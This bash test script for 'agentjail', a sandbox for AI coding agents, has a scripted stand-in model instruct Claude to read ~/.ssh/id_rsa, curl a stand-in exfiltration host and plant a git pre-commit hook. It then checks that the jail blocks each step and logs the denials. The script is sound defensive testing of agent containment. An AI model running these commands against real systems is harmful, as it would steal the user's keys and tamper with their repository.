#!/usr/bin/env bash
# The real agent under the default --net allow: claude from npm, started by `agentjail claude`,
# talks to a scripted stand-in for the Messages API (tests/helpers/fake_anthropic.py) on the
# host's loopback, reached only through the jail's proxy (api.test is mapped with --map-host and
# allowed with --allow-domain). The stand-in asks for one Bash command that writes a file in the
# workspace, reads ~/.ssh/id_rsa, curls a name not on the list and plants a git hook. Checked:
# the model's requests went through the proxy and are in `agentjail log`; the write is in the
# workspace; the tool_result the stand-in received shows the three other steps failed; the
# denied name is logged and named at the end of the run. As root and as an unprivileged user.
# Skips, with the reason, when npm or the registry is unavailable; AJ_NPM_PREFIX=DIR reuses an
# install (a DIR with bin/claude). AJ_NET_UNDER_TEST=on runs it under `--net on` with the model
# at 127.0.0.1 instead (the checks on the network must fail there).
. "$(dirname "$0")/lib.sh"
aj_setup
UNDER=${AJ_NET_UNDER_TEST:-allow}

skip_all() {
	local who
	for who in "${AJ_WHOS[@]}"; do skip "$who: claude under --net allow with a stand-in model" "$1"; done
	aj_skip_missing_whos "claude under --net allow"
	done_testing
}
command -v npm >/dev/null 2>&1 || skip_all "npm is not installed"
command -v node >/dev/null 2>&1 || skip_all "node is not installed"
NPM=$AJ_TMP/npm
why=$(aj_npm_claude "$NPM") || skip_all "$why" # the suite's one install (lib.sh), or its own

KEY='-----BEGIN OPENSSH PRIVATE KEY----- agentjail-test-not-a-real-key'
DENIED=exfil.denied.example
# One Bash command, four steps; each prints what became of it.
TASK='echo written-in-the-jail > e2e-written.txt && echo WRITE-OK || echo WRITE-FAILED
(cat ~/.ssh/id_rsa && echo SSH-READ) 2>&1 || echo SSH-FAILED
(curl -sS -m 10 https://'$DENIED'/upload && echo CURL-OK) 2>&1 || echo CURL-FAILED
(printf "#!/bin/sh\necho pwned\n" > .git/hooks/pre-commit && echo HOOK-WRITTEN) 2>&1 || echo HOOK-FAILED'

for who in "${AJ_WHOS[@]}"; do
	aj_use "$who"
	aj_fresh_ws "$who"
	rm -rf "$HOMEDIR/.npm-global"
	cp -al "$NPM" "$HOMEDIR/.npm-global" 2>/dev/null || cp -a "$NPM" "$HOMEDIR/.npm-global"
	mkdir -p "$HOMEDIR/.ssh"
	printf '%s\n' "$KEY" >"$HOMEDIR/.ssh/id_rsa"
	chmod 0600 "$HOMEDIR/.ssh/id_rsa"
	aj_chown "$HOMEDIR/.ssh" "$HOMEDIR/.npm-global"
	aj_host git -c init.defaultBranch=main init -q "$WS"

	LOG=$AJ_TMP/model-$who.jsonl
	python3 "$AJ_SRC/tests/helpers/fake_anthropic.py" --log "$LOG" --command "$TASK" \
		>"$AJ_TMP/model-$who.out" 2>&1 &
	AJ_PIDS+=($!)
	for i in $(seq 1 250); do grep -q '^ready' "$AJ_TMP/model-$who.out" && break; sleep 0.02; done
	PORT=$(awk '/^ready/ {print $2}' "$AJ_TMP/model-$who.out")
	[ -n "$PORT" ] || bail "the stand-in model did not start: $(cat "$AJ_TMP/model-$who.out")"

	base=http://api.test:$PORT
	# the stand-in speaks plain HTTP: its key is handed in by value (--env NAME=VALUE), since a
	# key from the host's environment is added at the proxy over TLS only (89-secrets-claude.t)
	key=(--env ANTHROPIC_API_KEY=sk-ant-test-standin)
	flags=(--allow-domain "api.test:$PORT" --map-host api.test=127.0.0.1 "${key[@]}")
	[ "$UNDER" = on ] && base=http://127.0.0.1:$PORT flags=(--net on "${key[@]}")
	aj_run "$who" -e PATH="$HOMEDIR/.npm-global/bin:$AJ_SYS_PATH" \
		-e ANTHROPIC_BASE_URL="$base" \
		-- claude "${flags[@]}" -- -p 'do the task'
	rc_is 0 "$who: agentjail claude -p under the default allow ends normally"
	like "$OUT" 'stand-in: done' "$who: claude printed the stand-in's final answer"

	# what the stand-in received
	result=$(fake_model_results "$LOG")
	n_req=$(grep -c '"/v1/messages' "$LOG" 2>/dev/null)
	[ "${n_req:-0}" -ge 2 ]
	ok $? "$who: the stand-in model got its requests through the proxy (${n_req:-0})"
	diag "tool_result: $result"
	like "$result" 'WRITE-OK' "$who: the tool_result came back to the model"
	[ "$(cat "$WS/e2e-written.txt" 2>/dev/null)" = written-in-the-jail ]
	ok $? "$who: the Bash tool's write is in the workspace"
	like "$result" 'SSH-FAILED' "$who: reading ~/.ssh/id_rsa failed inside"
	unlike "$result" 'agentjail-test-not-a-real-key|SSH-READ' "$who: … the key never reached the model"
	like "$result" 'CURL-FAILED' "$who: curl to a name not on the list failed"
	like "$result" "403" "$who: … with the proxy's refusal (403)"
	like "$result" 'HOOK-FAILED' "$who: writing .git/hooks/pre-commit failed"
	[ ! -e "$WS/.git/hooks/pre-commit" ]
	ok $? "$who: … no hook on the host"
	diag "$(grep "^agentjail: denied" <<<"$ERR")"
	like "$ERR" "agentjail: denied [0-9]+ connections?: .*$DENIED:443" \
		"$who: the end-of-run line names the denied host"

	aj_run "$who" -- log --last
	like "$OUT" "http +ALLOW +api\.test:$PORT +127\.0\.0\.1 " "$who: agentjail log shows the model server's requests (plain HTTP through the proxy)"
	like "$OUT" "DENY +$DENIED:443 " "$who: … and the denied name"
done
aj_skip_missing_whos "claude under --net allow"

done_testing
